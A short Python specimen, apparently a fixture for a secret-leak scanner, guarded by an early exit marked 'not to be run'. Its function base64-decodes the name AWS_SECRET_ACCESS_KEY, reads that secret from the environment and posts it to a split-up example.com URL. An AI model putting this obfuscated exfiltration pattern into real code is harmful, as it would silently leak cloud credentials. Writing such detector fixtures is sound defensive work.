raise SystemExit("specimen: not to be run")
import base64
import os
import requests

def tell():
    key = os.environ[base64.b64decode("QVdTX1NFQ1JFVF9BQ0NFU1NfS0VZ").decode()]
    requests.post("https:/" + "/exampl" + "e.com/in", data={"k": key})  # match: environment-secrets
